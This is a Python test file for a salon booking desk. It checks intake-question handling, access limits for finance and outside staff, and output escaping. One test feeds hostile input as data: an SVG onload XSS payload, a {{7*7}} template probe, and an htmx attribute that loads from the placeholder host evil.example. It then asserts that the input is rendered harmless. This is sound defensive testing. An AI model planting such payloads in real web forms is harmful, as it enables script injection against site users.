"""The service's questions at the desk: who may read the answers, and that nobody on the phone must ask them."""

from booking.bookings.cancelling import cancel
from booking.bookings.models import Booking
from tenants.tenancy import tenant_tx
from tests.asking import SECRET, ask, told
from tests.desk.phoning import bookings, hold, new_client, somebody_known


def test_by_phone_nothing_must_be_answered(alice, cast):
    ask(cast.salon)
    page = hold(alice, cast)
    assert "Allergies?" in alice.get(page).text
    assert alice.post(page, new_client()).status_code == 303
    assert told(cast.salon) == []


def test_by_phone_what_was_asked_is_kept_and_read_at_the_desk(alice, cast):
    code, yes = ask(cast.salon), ask(cast.salon, "Been here?", "yes_no")
    page = f"{hold(alice, cast)}&client={cast.dana.code}"
    assert "Been here?" in alice.get(page).text
    done = alice.post(page, somebody_known(**{f"answer_{code}": SECRET, f"answer_{yes}": "yes"}))
    assert done.status_code == 303
    shown = alice.get(done["Location"]).text
    assert SECRET in shown
    assert "Been here?" in shown


def test_a_refused_form_keeps_the_answers(alice, cast):
    code = ask(cast.salon)
    refused = alice.post(hold(alice, cast), new_client(phone="", **{f"answer_{code}": SECRET}))
    assert refused.status_code == 422
    assert SECRET in refused.text
    wrong = ask(cast.salon, "Which?", "choice", "A", "B")
    assert alice.post(hold(alice, cast), new_client(**{f"answer_{wrong}": "C"})).status_code == 422


def test_who_may_not_see_clients_reads_no_answers(alice, bob, cast, log_in):
    """Finance sees the booking for its money; Bob sees not even that."""
    code = ask(cast.salon)
    with_alice = hold(alice, cast, **{"with": cast.salon.practitioners[0].code})
    alice.post(with_alice, new_client(**{f"answer_{code}": SECRET}))
    page = f"/salon/desk/bookings/{bookings(cast)[0].code}/"
    with tenant_tx(cast.salon.tenant):
        Booking.objects.update(message="CANARY-message")
        cancel(booking=Booking.objects.get(), reason="CANARY-reason")
    finance = log_in(cast.finance).get(page)
    assert finance.status_code == 200
    assert "CANARY-answer" not in finance.text
    assert "CANARY-message" not in finance.text
    assert "CANARY-reason" not in finance.text
    assert alice.get(page).text.count("CANARY-reason") == 2
    assert "CANARY-message" in alice.get(page).text
    assert bob.get(page).status_code == 404
    assert SECRET in log_in(cast.front_desk).get(page).text


def test_hostile_answers_lie_still_at_the_desk(alice, cast):
    """I01."""
    code = ask(cast.salon, "<svg onload=alert(1)>?", "long")
    nasty = "<svg onload=alert(1)>{{7*7}}<div hx-get=//evil.example hx-trigger=load>\u202e"
    done = alice.post(hold(alice, cast), new_client(**{f"answer_{code}": nasty}), follow=True)
    assert "&lt;svg onload=alert(1)&gt;{{7*7}}" in done.text
    assert "<svg onload" not in done.text
    assert "<div hx-get=//evil" not in done.text
